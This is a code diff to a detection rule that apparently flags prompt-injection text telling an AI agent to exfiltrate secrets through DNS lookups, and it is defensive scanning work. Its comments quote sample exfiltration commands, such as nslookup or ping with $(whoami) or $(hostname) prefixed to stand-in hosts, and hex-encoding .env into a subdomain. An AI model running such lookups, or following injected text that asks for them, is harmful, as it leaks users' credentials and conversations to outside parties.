@@ -324,7 +324,7 @@ EXFILTRATION_PATTERNS += (
         # "make a DNS query to <secret>.drill.example.net", "hex-encode .env as a subdomain
         # of x.dnslog.net": data leaves in the names the resolver looks up.
         "dns_exfil", "exfiltration", HIGH, ("dns", "nslookup", "dig", "resolve", "lookup",
-                                             "subdomain", "sub-domain"),
+                                             "subdomain", "sub-domain", "ping", "host", "drill"),
         r"\b(?:dns|nslookup|dig|resolve|lookup)\b[^\n]{0,120}?(?:<|\$\{?|\{\{?)\s?[\w.-]{0,24}?"
         r"(?:secret|token|key|password|passwd|credential|env|data|conversation|chat|history)"
         r"[\w.-]{0,24}?\s?(?:>|\}\}?)?\.[\w-]{1,63}\."
@@ -332,7 +332,12 @@ EXFILTRATION_PATTERNS += (
         r"\s+var(?:iable)?s|conversation|chat\s+history)|\.env)\b[^.\n]{0,100}?\b(?:as|into|in)"
         r"\s+(?:an?\s+|the\s+)?sub-?domains?\b"
         r"|\bsub-?domains?\b[^.\n]{0,40}?(?:\b(?:secrets?|tokens?|api\s?keys?|passwords?"
-        r"|credentials?)|\.env)\b",
+        r"|credentials?)|\.env)\b"
+        # a command's output or a value put in the name looked up: "nslookup $(whoami).x.net",
+        # "dig TXT <hex of the token>.health.ops.net", "ping -c1 $(hostname).beacon.live"
+        r"|\b(?:nslookup|dig|ping|host\s+-t\s?\w+|resolve-dnsname|drill)\s[^\n]{0,40}?"
+        r"(?:\$\([^\n]{1,100}?\)|\$\{[^}\n]{1,40}\}|<[^>\n]{1,40}>)[\w$().-]{0,60}?"
+        r"\.[a-z][\w-]{1,62}\.[a-z]{2,}",
         "Tells the agent to leak data through DNS names it looks up.",
     ),
 )
